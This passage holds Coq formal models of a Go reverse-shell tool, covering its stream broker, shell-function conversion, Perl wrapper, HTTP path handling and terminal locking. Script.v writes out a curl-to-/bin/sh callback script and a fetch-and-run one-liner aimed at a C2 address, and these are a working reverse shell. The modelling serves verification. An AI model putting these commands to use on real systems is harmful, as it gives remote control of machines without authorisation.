  let '(s', ob) :=
    match o with
    | OAdmit id d =>
        match get s id with
        | Some _ => (s, no_obs)                  (* identities are never reused *)
        | None =>
            let s1 := add_stream s id d PParked in
            match get s1 id with Some x => admission s1 x | None => (s1, no_obs) end
        end
    | OIoReq si so di do_ =>
        match get s si, get s so, si =? so with
        | None, None, false => (add_stream (add_stream s si di PParked) so do_ PParked, no_obs)
        | _, _, _ => (s, no_obs)
        end
    | OGo id =>
        match get s id with
        | Some x => match st_ph x with PParked => admission s x | _ => (s, no_obs) end
        | None => (s, no_obs)
        end
    | OLine l =>
        if ich_closed s then (s, no_obs) else
        let s1 := set_queue s (queue s ++ [l]) in
        match cin s1 with Some (id, _) => pump_in s1 id | None => (s1, no_obs) end
    | OCloseIch =>
        let s1 := {| bkey := bkey s; cin := cin s; cout := cout s; nomore := nomore s; ich_closed := true;
                     queue := queue s; streams := streams s; cancelled := cancelled s |} in
        match cin s1 with Some (id, _) => pump_in s1 id | None => (s1, no_obs) end
    | OData id data e =>
        match get s id with
        | Some x =>
            match st_ph x, sd_dir (st_d x) with
            | PAttached, DOut =>
                let o1 := {| o_och := (match data with [] => [] | _ => [OPlain data] end);
                             o_log := (match data with [] => [] | _ => [Log (LIO data) id] end);
                             o_ev := []; o_w := []; o_att := []; o_ret := []; o_do := false |} in
                match e with
                | None => (s, o1)
                | Some ROther => let '(s2, o2) := finish s x true in (s2, obs_app o1 o2)
                | Some _ => let '(s2, o2) := finish s x false in (s2, obs_app o1 o2)
                end
            | _, _ => (s, no_obs)
            end
        | None => (s, no_obs)
        end
    | OCancel id =>
        fold_left (fun acc i => let '(sa, oa) := acc in let '(sb, ob) := cancel_one sa i in (sb, obs_app oa ob))
                  (ctx_mates s id) (s, no_obs)
    | ORelease id =>
        match get s id with
        | Some x => match st_ph x with PEnded _ => release s x | _ => (s, no_obs) end
        | None => (s, no_obs)
        end
    | ODrain _ => (s, no_obs)
    | ORace _ _ => (s, no_obs)
    | OWGate _ => (s, no_obs)
    | OShutdown =>
        ({| bkey := bkey s; cin := cin s; cout := cout s; nomore := true; ich_closed := ich_closed s;
            queue := queue s; streams := streams s; cancelled := cancelled s |}, no_obs)
    end in
  with_do s' ob.

Fixpoint run_from (s : bst) (ops : list op) : bst * list sobs :=
  match ops with
  | [] => (s, [])
  | o :: r => let '(s1, ob) := step s o in
              let '(s2, obs) := run_from s1 r in (s2, ob :: obs)
  end.
Definition run (ops : list op) : bst * list sobs := run_from init ops.
