(** Executable model of /repo/lib/shellfuncsfile/shellfuncsfile.go
    (Converter.From, from, fromDirectory, fromSingleFile, fromReader).

    Environment (not repo code) enters as data:
    - [matches p n]: the verdict of Go's [path.Match]/[filepath.Match] for
      pattern [p] and base name [n]; [bad p]: the pattern is malformed;
    - a directory is a list of (name, what [Stat] — which follows symbolic
      links — says about it, and the content if regular).
    Patterns are base-name patterns (no '/'), as in the property. *)
From CRS Require Import Lib.Bytes Lib.Sort Model.Perl Model.FuncList.
Open Scope N_scope.

Inductive kind :=
| KReg (content : bytes)     (* regular file, possibly through a link *)
| KDir                       (* directory, possibly through a link *)
| KDangling                  (* symbolic link whose target does not exist *)
| KSpecial.                  (* fifo, socket, device *)

Definition listing := list (bytes * kind).

(** Filters the harness can install (the two real ones and observable stand-ins). *)
Inductive filt :=
| FShell                     (* FromShell: identity *)
| FPerl                      (* FromPerl *)
| FTag (t : N)               (* "<t:basename>" ++ content *)
| FEmpty                     (* returns no bytes *)
| FFail.                     (* returns an error *)

Inductive res :=
| ROk (b : bytes)
| RErr (cls : N).            (* 1 stat failed, 2 filter failed, 3 bad pattern, 4 source missing / invalid type *)

Section Conv.
  Variable matches : bytes -> bytes -> bool.
  Variable bad : bytes -> bool.

  Definition has_meta (p : bytes) : bool :=
    existsb (fun c => (c =? 42) || (c =? 63) || (c =? 91) || (c =? 92)) p.

  Definition is_dot (n : bytes) : bool := match n with 46 :: _ => true | _ => false end.

  (** What a filter returns for (file name as handed to it, content). *)
  Definition apply_filter (f : filt) (name content : bytes) : option bytes :=
    match f with
    | FShell => Some content
    | FPerl => Some (from_perl name content)
    | FTag t => Some ([60; 48 + t; 58] ++ path_base name ++ [62] ++ content)
    | FEmpty => Some []
    | FFail => None
    end.

  Definition ensure_nl (b : bytes) : bytes :=
    match b with [] => [] | _ => if last b 0 =? 10 then b else b ++ [10] end.

  (** [patterns]: the filter table sorted by pattern (map keys: distinct). *)
  Definition table := list (bytes * filt).
  Fixpoint insert_tab (x : bytes * filt) (l : table) : table :=
    match l with
    | [] => [x]
    | y :: r => if ble (fst x) (fst y) then x :: l else y :: insert_tab x r
    end.
  Definition sort_table (t : table) : table := fold_right insert_tab [] t.

  (** fromReader: first matching pattern in sorted order.
      [None] = errNoConverter. *)
  Fixpoint from_reader (t : table) (name content : bytes) : option res :=
    match t with
    | [] => None
    | (p, f) :: r =>
        if bad p then Some (RErr 3)
        else if matches p (path_base name) then
          Some (match apply_filter f name content with
                | Some b => ROk (ensure_nl b)
                | None => RErr 2
                end)
        else from_reader r name content
    end.

  (** fs.Glob for a base-name pattern over one directory. *)
  Definition exists_followed (d : listing) (n : bytes) : bool :=
    existsb (fun e => beq (fst e) n && match snd e with KDangling => false | _ => true end) d.

  Definition glob (d : listing) (p : bytes) : list bytes :=
    if has_meta p then map fst (List.filter (fun e => matches p (fst e)) d)
    else if exists_followed d p then [p] else [].

  Definition lookup (d : listing) (n : bytes) : option kind :=
    match find (fun e => beq (fst e) n) d with Some e => Some (snd e) | None => None end.

  Fixpoint convert_files (t : table) (d : listing) (names : list bytes) : res :=
    match names with
    | [] => ROk []
    | n :: r =>
        if is_dot n then convert_files t d r else
        match lookup d n with
        | None | Some KDangling => RErr 1
        | Some KDir | Some KSpecial => convert_files t d r
        | Some (KReg c) =>
            match from_reader t n c with
            | None => RErr 2            (* errNoConverter is an error here *)
            | Some (RErr e) => RErr e
            | Some (ROk b) =>
                match convert_files t d r with
                | ROk rest => ROk (b ++ rest)
                | e => e
                end
            end
        end
    end.

  Definition file_names (t : table) (d : listing) : list bytes :=
    compact (sort_bytes (concat (map (fun pf => glob d (fst pf)) t))).

  Definition from_dir (tab : table) (d : listing) : res :=
    let t := sort_table tab in
    if existsb (fun pf => bad (fst pf)) t then RErr 3
    else convert_files t d (file_names t d).

  Definition from_single (tab : table) (name content : bytes) : res :=
    match from_reader (sort_table tab) name content with
    | None => ROk content
    | Some r => r
    end.

  Inductive source :=
  | SDir (d : listing)
  | SFile (name content : bytes)
  | SInvalid.                               (* missing, or neither file nor directory *)

  Definition from_one (tab : table) (s : source) : res :=
    match s with
    | SDir d => from_dir tab d
    | SFile n c => from_single tab n c
    | SInvalid => RErr 4
    end.

  Fixpoint from_sources (tab : table) (ss : list source) : res :=
    match ss with
    | [] => ROk []
    | s :: r => match from_one tab s with
                | ROk b => match from_sources tab r with ROk t => ROk (b ++ t) | e => e end
                | e => e
                end
    end.

  (** Converter.From with AddListFunction. *)
  Definition conv_from (tab : table) (addlist : bool) (ss : list source) : res :=
    match from_sources tab ss with
    | ROk b => if addlist then ROk (b ++ [10] ++ gen_func_list b) else ROk b
    | e => e
    end.

  (** ** The statement's own description of a directory payload *)
  Definition eligible (t : table) (e : bytes * kind) : bool :=
    negb (is_dot (fst e)) && existsb (fun pf => matches (fst pf) (fst e)) t &&
    match snd e with KReg _ => true | _ => false end.

  (** First matching filter in pattern order, applied, newline-terminated.
      [None]: the filter fails (or, impossible for an eligible file, no pattern matches). *)
  Definition convert_one (t : table) (name content : bytes) : option bytes :=
    match find (fun pf => matches (fst pf) (path_base name)) t with
    | Some (_, f) => option_map ensure_nl (apply_filter f name content)
    | None => None
    end.

  Fixpoint concat_opt (l : list (option bytes)) : option bytes :=
    match l with
    | [] => Some []
    | Some b :: r => option_map (app b) (concat_opt r)
    | None :: _ => None
    end.

  Definition content_of (d : listing) (n : bytes) : bytes :=
    match lookup d n with Some (KReg c) => c | _ => [] end.

  (** Exactly the eligible files, in lexicographic name order, each converted. *)
  Definition spec_dir (tab : table) (d : listing) : option bytes :=
    let t := sort_table tab in
    let names := sort_bytes (map fst (List.filter (eligible t) d)) in
    concat_opt (map (fun n => convert_one t n (content_of d n)) names).

  (** Conditions under which the statement promises success for a directory:
      patterns well formed, and no non-dot matching name is a dangling link. *)
  Definition dir_in_scope (tab : table) (d : listing) : bool :=
    negb (existsb (fun pf => bad (fst pf)) tab) &&
    negb (existsb (fun e => negb (is_dot (fst e)) &&
                            existsb (fun pf => matches (fst pf) (fst e)) tab &&
                            match snd e with KDangling => true | _ => false end) d).
End Conv.
