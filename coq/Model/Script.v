(** Model of /repo/internal/hsrv/script.go (c2URL, scriptHandler, the default
    template of script.tmpl) and of the one-liners printed by hsrv.go. *)
From CRS Require Import Lib.Bytes Lib.Base36 Lib.Base64 Lib.Sha256.
Open Scope N_scope.

(** ** The callback address (script.go:95-133) *)
Record reqview := {
  form_c2 : bytes;              (* c2 query / form parameter, "" if absent *)
  hdr_c2 : bytes;               (* c2 header *)
  host_ascii : option bytes;    (* idna.ToASCII(Host); None = error *)
  sni : bytes;                  (* TLS server name *)
  lport : bytes                 (* the listener's port, decimal *)
}.
Inductive c2res := C2 (url : bytes) | C2Err.

Definition c2url (r : reqview) : c2res :=
  match form_c2 r with
  | _ :: _ => C2 (form_c2 r)
  | [] =>
    match hdr_c2 r with
    | _ :: _ => C2 (hdr_c2 r)
    | [] =>
      match host_ascii r with
      | None => C2Err
      | Some ((_ :: _) as h) => C2 h
      | Some [] =>
          match sni r with
          | [] => C2Err
          | s => if beq (lport r) (txt "443") then C2 s
                 else C2 (if existsb (N.eqb 58) s then [91] ++ s ++ [93; 58] ++ lport r else s ++ [58] ++ lport r)
          end
      end
    end
  end.

(** ** The default callback script *)
Definition curl_cmd (fp url : bytes) : bytes :=
  txt "curl -Nsk --pinnedpubkey ""sha256//" ++ fp ++ txt """ https://" ++ url.
Definition script_for (fp url id : bytes) : bytes :=
  txt "#!/bin/sh

" ++ curl_cmd fp url ++ txt "/i/" ++ id ++ txt " </dev/null 2>&0 |
/bin/sh 2>&1 |
" ++ curl_cmd fp url ++ txt "/o/" ++ id ++ txt " -T- >/dev/null 2>&1
".

(** What the template file does to a request (the engine itself is text/template). *)
Inductive tmpl := TDefault | TMissing | TUnparsable | TExecFails | TLiteral (text : bytes).
Inductive sresp := SOk (body : bytes) | SStatus (code : N).     (* an error status carries no body *)

Definition script_handler (t : tmpl) (fp : bytes) (r : reqview) (id : bytes) : sresp :=
  match t with
  | TMissing | TUnparsable => SStatus 500
  | _ =>
      match c2url r with
      | C2Err => SStatus 400
      | C2 url =>
          match t with
          | TExecFails => SStatus 500
          | TLiteral text => SOk text
          | _ => SOk (script_for fp url id)
          end
      end
  end.

(** ** One-liners (hsrv.go: CurlFormat + suffix) *)
Definition oneliner (fp addr suffix : bytes) : bytes :=
  txt "curl -sk --pinnedpubkey sha256//" ++ fp ++ txt " https://" ++ addr ++ suffix.
Definition shell_suffix : bytes := txt "/c | /bin/sh".

(** The pin of a key: the statement's own definition. *)
Definition pin_of_spki (spki : bytes) : bytes := b64enc (sha256 spki).

(** Callback addresses given by the user keep their port; others get the BOUND port. *)
Definition with_port (a : bytes) (has_port : bool) (bound : bytes) : bytes :=
  if has_port then a else (if existsb (N.eqb 58) a then [91] ++ a ++ [93] else a) ++ [58] ++ bound.

(** The chain of sources [c2url] consults, in order, named as the translator
    (translator/c2chain) finds them in Server.c2URL of the working tree:
    [form_c2] is r.Form.Get(C2Param), [hdr_c2] is r.Header.Get(C2Param),
    [host_ascii] is idna.ToASCII(r.Host), [sni] is r.TLS.ServerName. *)
From Coq Require Import String.
Definition model_c2_sources : list string :=
  ["r.Form.Get(C2Param)"; "r.Header.Get(C2Param)"; "idna.ToASCII(r.Host)"; "r.TLS.ServerName"]%string.
Definition c2_sources_match (found : list string) : bool :=
  (fix eqs (a b : list string) : bool :=
     match a, b with
     | [], [] => true
     | x :: a', y :: b' => String.eqb x y && eqs a' b'
     | _, _ => false
     end) found model_c2_sources.
