(** The HTTP surface of the broker (internal/hsrv/handlers.go): the handlers
    of /i/{id} and /o/{id} hand the broker the path element, percent-decoded
    by the mux and otherwise untouched, as the key. *)
From CRS Require Import Lib.Bytes Lib.Pct Model.Broker.
Open Scope N_scope.

Definition http_key (raw : bytes) : key := KUni (pct_decode raw).
Definition hdesc (d : dir) (k : key) (a : N) : sdesc :=
  {| sd_dir := d; sd_key := k; sd_addr := a; sd_wk := WFlusher; sd_wfail := None; sd_ffail := None |}.

(** what the broker model makes of two requests arriving one after the other
    on an idle server: does the second attach? *)
Definition http_pairs (raw_first raw_second : bytes) (first_is_in : bool) : bool :=
  let d1 := if first_is_in then DIn else DOut in
  let obs := snd (run [OAdmit 1 (hdesc d1 (http_key raw_first) 1); OAdmit 2 (hdesc (other d1) (http_key raw_second) 2)]) in
  existsb (fun o => existsb (N.eqb 2) (o_att o)) obs.
