(** Model of the locking around Ctrl+O in /repo/lib/opshell/opshell.go.

    Two locks: [T], the terminal's own lock (inside goxterm: held by ReadLine
    while it handles a key press - and so while it runs the Shell's
    control-character handler - and taken by Terminal.Write), and [W],
    Shell.wL.  Threads:
      - the key handler: ReadLine holding T calls the ^O handler;
          old code: the handler locks W, mutes, unlocks W, returns (T released);
          new code (fix: 3f1e604): the handler starts a goroutine and returns;
      - that goroutine (new code): locks W, mutes, unlocks W;
      - any number of writers (writePlain, Logf - also the ones the handler
        and the timer start): lock W, write to the terminal (lock T, unlock T),
        unlock W.
    A run is any sequence of scheduler choices; a choice whose thread cannot
    move (lock taken, or finished) leaves the state unchanged. *)
From CRS Require Import Lib.Bytes.

Inductive who := Key | Muter | Writer (j : nat).
Definition who_eqb (a b : who) : bool :=
  match a, b with
  | Key, Key | Muter, Muter => true
  | Writer i, Writer j => Nat.eqb i j
  | _, _ => false
  end.

Record lst := {
  tl : option who;       (* holder of the terminal's lock *)
  wl : option who;       (* holder of Shell.wL *)
  kpc : nat;             (* key handler: old 0 -T-> 1 -W-> 2 -unW-> 3 -unT-> 4 ; new 0 -T-> 1 -spawn-> 2 -unT-> 3 *)
  mpc : option nat;      (* new code's goroutine: None = not started; 0 -W-> 1 -unW-> 2 *)
  wpc : list nat         (* writers: 0 -W-> 1 -T-> 2 -unT-> 3 -unW-> 4 *)
}.
Definition linit (writers : nat) : lst := {| tl := None; wl := None; kpc := 0; mpc := None; wpc := repeat 0%nat writers |}.

Definition free (l : option who) : bool := match l with None => true | Some _ => false end.
Fixpoint set_nth (l : list nat) (j v : nat) : list nat :=
  match l, j with
  | [], _ => []
  | _ :: r, O => v :: r
  | x :: r, S k => x :: set_nth r k v
  end.

Definition writer_step (s : lst) (j : nat) : lst :=
  match nth_error (wpc s) j with
  | Some 0%nat => if free (wl s) then {| tl := tl s; wl := Some (Writer j); kpc := kpc s; mpc := mpc s; wpc := set_nth (wpc s) j 1%nat |} else s
  | Some 1%nat => if free (tl s) then {| tl := Some (Writer j); wl := wl s; kpc := kpc s; mpc := mpc s; wpc := set_nth (wpc s) j 2%nat |} else s
  | Some 2%nat => {| tl := None; wl := wl s; kpc := kpc s; mpc := mpc s; wpc := set_nth (wpc s) j 3%nat |}
  | Some 3%nat => {| tl := tl s; wl := None; kpc := kpc s; mpc := mpc s; wpc := set_nth (wpc s) j 4%nat |}
  | _ => s
  end.

(** the repaired code *)
Definition lstep_new (s : lst) (w : who) : lst :=
  match w with
  | Key =>
      match kpc s with
      | 0%nat => if free (tl s) then {| tl := Some Key; wl := wl s; kpc := 1; mpc := mpc s; wpc := wpc s |} else s
      | 1%nat => {| tl := tl s; wl := wl s; kpc := 2; mpc := Some 0%nat; wpc := wpc s |}      (* go func() { ... }() *)
      | 2%nat => {| tl := None; wl := wl s; kpc := 3; mpc := mpc s; wpc := wpc s |}
      | _ => s
      end
  | Muter =>
      match mpc s with
      | Some 0%nat => if free (wl s) then {| tl := tl s; wl := Some Muter; kpc := kpc s; mpc := Some 1%nat; wpc := wpc s |} else s
      | Some 1%nat => {| tl := tl s; wl := None; kpc := kpc s; mpc := Some 2%nat; wpc := wpc s |}
      | _ => s
      end
  | Writer j => writer_step s j
  end.

(** the code before the repair: the handler itself locks W, with T held *)
Definition lstep_old (s : lst) (w : who) : lst :=
  match w with
  | Key =>
      match kpc s with
      | 0%nat => if free (tl s) then {| tl := Some Key; wl := wl s; kpc := 1; mpc := None; wpc := wpc s |} else s
      | 1%nat => if free (wl s) then {| tl := tl s; wl := Some Key; kpc := 2; mpc := None; wpc := wpc s |} else s
      | 2%nat => {| tl := tl s; wl := None; kpc := 3; mpc := None; wpc := wpc s |}
      | 3%nat => {| tl := None; wl := wl s; kpc := 4; mpc := None; wpc := wpc s |}
      | _ => s
      end
  | Muter => s
  | Writer j => writer_step s j
  end.

(** everybody has finished *)
Definition all_done_new (s : lst) : bool :=
  Nat.eqb (kpc s) 3 && match mpc s with Some 2%nat => true | _ => false end && forallb (Nat.eqb 4) (wpc s).
(** thread [w]'s step changes the state *)
Definition pcs (s : lst) := (kpc s, mpc s, wpc s).

(** The shape of the source this model transcribes (checked against the working
    tree on every run by translator/lockshape): the Ctrl+O branch of the
    control-character handler takes no lock synchronously, and the writers
    (writePlain, Logf) lock Shell.wL before they touch the terminal. *)
Definition lock_shape_of_model : list bytes * bool := ([], true).
