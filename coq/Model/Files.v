(** Model of what /repo/internal/hsrv/handlers.go makes of a request path:
    which paths belong to the shell endpoints (the five patterns registered in
    newMux), and which file the file handler can hand out (http.FileServer over
    http.Dir: path.Clean("/" + URL.Path) under the root; a single regular file
    for everything when -serve-files-from names a file). *)
From CRS Require Import Lib.Bytes Lib.PathClean.
Open Scope N_scope.

(** The shell endpoints.  The mux splits the ESCAPED path at '/', decodes each
    element on its own and matches element-wise: [segs] is that list (so
    "/%63" is the script endpoint and "/i%2fx" is the single element "i/x"). *)
Definition is_shell_segs (segs : list bytes) : bool :=
  match segs with
  | [c] => beq c (txt "c") || beq c (txt "io")
  | a :: b :: r =>
      (beq a (txt "io")) ||
      ((beq a (txt "i") || beq a (txt "o")) && negb (beq b []) && negb (beq b [47]) && match r with [] => true | _ => false end)
      (* an element that decodes to exactly "/" is the mux's own marker for a trailing slash and does not match {id}:
         "/i/%2f" goes to the catch-all (found by the thorough tier) *)
  | [] => false
  end.
Definition is_shell_path (p : bytes) : bool :=
  match p with 47 :: r => is_shell_segs (split_on 47 r) | _ => false end.

Inductive fmode := FNone | FSingle | FDir.

(** The only path (relative to the served root, leading '/') whose content a
    request for decoded URL path [p] can obtain in directory mode. *)
Definition resolve (p : bytes) : bytes := clean_rooted p.

(** Directory requests are answered with index.html of that directory. *)
Definition candidates (p : bytes) : list bytes :=
  let c := resolve p in
  [c; (if beq c [47] then txt "/index.html" else c ++ txt "/index.html")].

(** net/http's ServeMux answers a request whose ESCAPED path is not in
    canonical form by itself, with a 301 to the cleaned path, before any
    handler runs (cleanPath: path.Clean, with a trailing slash put back). *)
Definition mux_clean (e : bytes) : bytes :=
  let np := clean_rooted e in
  match rev e with
  | c :: _ => if (c =? 47) && negb (beq np [47]) then np ++ [47] else np
  | [] => np
  end.
Definition mux_redirects (e : bytes) : bool := negb (beq (mux_clean e) e).
