(** Executable model of /repo/lib/shellfuncsfile/filter_perl.go (cleanPerl,
    FromPerl) and of the receiving side: what a POSIX shell puts into
    PERL5DB and what perl's q{...}, y/sb/\47\134/ and unpack("u") make of it.
    Definitions only. *)
From CRS Require Import Lib.Bytes Lib.Utf8 Lib.Sort Model.UU.
Open Scope N_scope.

(** ** Small string functions of the Go standard library *)
Fixpoint take_while {A} (f : A -> bool) (l : list A) : list A :=
  match l with [] => [] | x :: r => if f x then x :: take_while f r else [] end.
Fixpoint drop_while {A} (f : A -> bool) (l : list A) : list A :=
  match l with [] => [] | x :: r => if f x then drop_while f r else l end.

(** [filepath.Ext]: suffix starting at the last dot of the last path element. *)
Fixpoint ext_rev (r acc : bytes) : bytes :=
  match r with
  | [] => []
  | c :: t => if c =? 47 then [] else if c =? 46 then 46 :: acc else ext_rev t (c :: acc)
  end.
Definition path_ext (name : bytes) : bytes := ext_rev (rev name) [].

(** [filepath.Base] (Unix). *)
Definition path_base (name : bytes) : bytes :=
  match name with
  | [] => [46]
  | _ => let r := drop_while (N.eqb 47) (rev name) in
         match take_while (fun c => negb (c =? 47)) r with
         | [] => [47]
         | seg => rev seg
         end
  end.

(** [strings.TrimSuffix] *)
Definition trim_suffix (s suf : bytes) : bytes :=
  if bprefix (rev suf) (rev s) then rev (skipn (length suf) (rev s)) else s.

Definition func_name (name : bytes) : bytes := trim_suffix (path_base name) (path_ext name).

(** ** cleanPerl *)
Definition is_comment (l : bytes) : bool := match l with 35 :: _ => true | _ => false end.
Definition is_shebang_or_bare (l : bytes) : bool := bprefix [35; 33] l || beq l [35].

(** rejoin: "" for no lines, else lines joined by newline plus a final newline. *)
Definition rejoin (ls : list bytes) : bytes :=
  match ls with [] => [] | _ => join_with 10 ls ++ [10] end.

(** The second loop: comment lines up to the first non-comment line become "". *)
Fixpoint blank_lead (ls : list bytes) : list bytes :=
  match ls with
  | [] => []
  | l :: r => if is_comment l then [] :: blank_lead r else ls
  end.

Definition clean_perl (raw : bytes) : bytes * bytes :=
  match raw with
  | [] => ([], [])
  | _ =>
      let lines := split_on 10 (trim_space raw) in
      let lead := drop_while is_shebang_or_bare (take_while is_comment lines) in
      (rejoin lead, rejoin (blank_lead lines))
  end.

(** ** FromPerl *)
Definition subst_sb (l : bytes) : bytes := replace_byte 92 [98] (replace_byte 39 [115] l).

Definition wrap_pre : bytes := txt "() {(
(exit $((0 != $#))) || set -- -e """" -- ""$@"";
PERL5OPT=-d PERL5DB='BEGIN{eval(unpack(u,q{`
".
Definition wrap_post : bytes := txt "
}=~y/sb/\47\134/r));die""Error: $@""if(""""ne$@);exit}' perl ""$@""; )}
".

Definition perl_uu (perl : bytes) : bytes := subst_sb (trim_space (encode perl)).

Definition from_perl (name raw : bytes) : bytes :=
  match raw with
  | [] => func_name name ++ txt "() {}" ++ [10]
  | _ => let '(lead, perl) := clean_perl raw in
         lead ++ func_name name ++ wrap_pre ++ perl_uu perl ++ wrap_post
  end.

(** ** The receiving side *)
(** First occurrence of [m] in [l]: what follows it. *)
Fixpoint after_sub (m l : bytes) : option bytes :=
  if bprefix m l then Some (skipn (length m) l)
  else match l with [] => None | _ :: r => after_sub m r end.

(** Lines of shell comments in front of the function are skipped by the shell. *)
Fixpoint drop_comment_lines_fuel (fuel : nat) (l : bytes) : bytes :=
  match fuel with
  | O => l
  | S f => match l with
           | 35 :: _ => match after_sub [10] l with
                        | Some r => drop_comment_lines_fuel f r
                        | None => []
                        end
           | _ => l
           end
  end.
Definition drop_comment_lines (l : bytes) : bytes := drop_comment_lines_fuel (length l) l.

(** The value the shell assigns: the text between the first pair of single
    quotes (nothing before them in the wrapper is quoted or escaped). *)
Definition sh_sq_value (body : bytes) : option bytes :=
  match after_sub [39] body with
  | Some r => if existsb (N.eqb 39) r then Some (take_while (fun c => negb (c =? 39)) r) else None
  | None => None
  end.

(** perl's q{...}: up to the matching brace (nesting counted). *)
Fixpoint q_brace (depth : nat) (l : bytes) : option bytes :=
  match l with
  | [] => None
  | c :: r =>
      if c =? 123 then option_map (cons c) (q_brace (S depth) r)
      else if c =? 125 then
        match depth with O => Some [] | S d => option_map (cons c) (q_brace d r) end
      else option_map (cons c) (q_brace depth r)
  end.
Definition perl_q (v : bytes) : option bytes :=
  match after_sub (txt "q{") v with Some r => q_brace 0 r | None => None end.

(** y/sb/\47\134/ *)
Definition tr_sb (l : bytes) : bytes := map (fun c => if c =? 115 then 39 else if c =? 98 then 92 else c) l.

(** The program text perl evaluates, given the generated shell text. *)
Definition recv (out : bytes) : option bytes :=
  match sh_sq_value (drop_comment_lines out) with
  | Some v => match perl_q v with
              | Some q => match decode [] (tr_sb q) with Ok t => Some t | _ => None end
              | None => None
              end
  | None => None
  end.

(** ** The statement's own description of the program text and lead comments,
    written index-wise (independently of the loops above). *)
Fixpoint all_comment_upto (ls : list bytes) (i : nat) : bool :=
  match i, ls with
  | O, l :: _ => is_comment l
  | S j, l :: r => is_comment l && all_comment_upto r j
  | _, [] => false
  end.
Definition spec_lines (ls : list bytes) : list bytes :=
  map (fun i => if all_comment_upto ls i then [] else nth i ls []) (seq 0 (length ls)).
Definition spec_text (raw : bytes) : bytes :=
  match raw with
  | [] => []
  | _ => join_with 10 (spec_lines (split_on 10 (trim_space raw))) ++ [10]
  end.
Definition spec_lead (raw : bytes) : bytes :=
  match raw with
  | [] => []
  | _ =>
    let ls := split_on 10 (trim_space raw) in
    let run := filter (fun i => all_comment_upto ls i) (seq 0 (length ls)) in
    let keep := filter (fun i => negb (forallb (fun j => is_shebang_or_bare (nth j ls [])) (seq 0 (S i)))) run in
    concat (map (fun i => nth i ls [] ++ [10]) keep)
  end.
