(** C11: the log FILE across runs (curlrevshell.go: os.OpenFile of the -log file with flags
    O_CREATE|O_WRONLY|O_APPEND and mode 0600; slog's JSON handler writes one record - one
    line - per Write call).

    Any number of processes (successive or overlapping runs of the program, or
    something else appending to the same file) open the file and write records.
    With O_APPEND the kernel places every write at the current end of the file;
    without it every open file description has its own offset, starting at 0.
    [mode_of_flags] reads the mode off the flag names the translator
    (translator/openflags) finds in the working tree. *)
From Coq Require Import List NArith Bool String.
From CRS Require Import Lib.Bytes.
Import ListNotations.
Open Scope N_scope.

Inductive omode := MAppend | MFromStart | MTrunc.

Definition has (f : string) (fl : list string) : bool := existsb (String.eqb f) fl.
Definition mode_of_flags (fl : list string) : omode :=
  if has "O_TRUNC" fl then MTrunc else if has "O_APPEND" fl then MAppend else MFromStart.

Inductive lop :=
| LOpen (p : N)                (* process p opens the log *)
| LWrite (p : N) (r : bytes).  (* process p writes one record *)

Record lst := { l_file : bytes; l_pos : list (N * nat) }.
Definition linit (existing : bytes) : lst := {| l_file := existing; l_pos := [] |}.

Fixpoint pos_of (p : N) (ps : list (N * nat)) : option nat :=
  match ps with
  | [] => None
  | (q, n) :: r => if q =? p then Some n else pos_of p r
  end.
Definition set_pos (p : N) (n : nat) (ps : list (N * nat)) : list (N * nat) :=
  (p, n) :: filter (fun x => negb (fst x =? p)) ps.

(** write [r] at offset [pos], extending the file if needed *)
Definition overwrite (f : bytes) (pos : nat) (r : bytes) : bytes :=
  firstn pos f ++ r ++ skipn (pos + length r) f.

Definition lstep (m : omode) (s : lst) (o : lop) : lst :=
  match o with
  | LOpen p => {| l_file := (match m with MTrunc => [] | _ => l_file s end); l_pos := set_pos p 0 (l_pos s) |}
  | LWrite p r =>
      match pos_of p (l_pos s) with
      | None => s                                   (* not open: nothing is written *)
      | Some pos =>
          match m with
          | MAppend => {| l_file := l_file s ++ r; l_pos := set_pos p (length (l_file s ++ r)) (l_pos s) |}
          | _ => {| l_file := overwrite (l_file s) pos r; l_pos := set_pos p (pos + length r) (l_pos s) |}
          end
      end
  end.
Definition lrun (m : omode) (s : lst) (ops : list lop) : lst := fold_left (lstep m) ops s.

(** The records written through an open description, in the order of the writes. *)
Fixpoint written (opened : list N) (ops : list lop) : list bytes :=
  match ops with
  | [] => []
  | LOpen p :: r => written (p :: opened) r
  | LWrite p rec :: r => if existsb (N.eqb p) opened then rec :: written opened r else written opened r
  end.
