(** Executable model of the Ctrl+O mute logic of /repo/lib/opshell/opshell.go
    (New's timer callback and ^O handler, writePlain, resetSilenceTimer,
    handleOutput's dispatch) as a discrete-event machine over integer
    milliseconds.  Go's timer fires at its deadline; anything due at time [t]
    fires before the event that arrives at [t]. *)
From CRS Require Import Lib.Bytes.
Open Scope Z_scope.

Definition pause : Z := 2000.          (* PlainWritePause, in ms (checked against the source per run) *)

Record mst := {
  silenced : bool;
  last : option Z;                     (* lastPlainWrite; None = the zero time *)
  timer : option Z                     (* deadline of the armed silence timer *)
}.
Definition minit : mst := {| silenced := false; last := None; timer := None |}.
(* New arms the timer with AfterFunc(0): its first firing finds lastPlainWrite zero and does nothing. *)

Inductive mev := CtrlO | Plain | Status | Tick.
Inductive mout := Wrote | Dropped | AnnMuting | AnnAlready | AnnUnmuting.

(** The timer callback, run at its deadline [d]. *)
Definition fire (s : mst) (d : Z) : mst * list mout :=
  match last s with
  | None => ({| silenced := silenced s; last := None; timer := None |}, [])
  | Some l =>
      if d - l <? pause
      then ({| silenced := silenced s; last := last s; timer := Some (l + pause) |}, [])   (* try again later *)
      else ({| silenced := false; last := last s; timer := None |}, [AnnUnmuting])
  end.

(** Let every timer due at or before [now] fire ([fuel] bounds re-arming). *)
Fixpoint advance (fuel : nat) (s : mst) (now : Z) : mst * list mout :=
  match fuel with
  | O => (s, [])
  | S f =>
      match timer s with
      | Some d => if d <=? now
                  then let '(s1, o1) := fire s d in
                       let '(s2, o2) := advance f s1 now in (s2, o1 ++ o2)
                  else (s, [])
      | None => (s, [])
      end
  end.

(** One event arriving at [now] (after the timers). *)
Definition handle (s : mst) (now : Z) (e : mev) : mst * list mout :=
  match e with
  | CtrlO =>
      if silenced s then (s, [AnnAlready])
      else ({| silenced := true; last := Some now; timer := Some (now + pause) |}, [AnnMuting])
  | Plain =>
      if silenced s then ({| silenced := true; last := Some now; timer := Some (now + pause) |}, [Dropped])
      else (s, [Wrote])
  | Status => (s, [Wrote])
  | Tick => (s, [])
  end.

(** [(before, after)]: what timers announce up to [now], and what the event produces. *)
Definition mstep (s : mst) (te : Z * mev) : mst * (list mout * list mout) :=
  let '(now, e) := te in
  let '(s1, o1) := advance 3 s now in
  let '(s2, o2) := handle s1 now e in
  (s2, (o1, o2)).

Fixpoint mrun_from (s : mst) (es : list (Z * mev)) : mst * list (list mout * list mout) :=
  match es with
  | [] => (s, [])
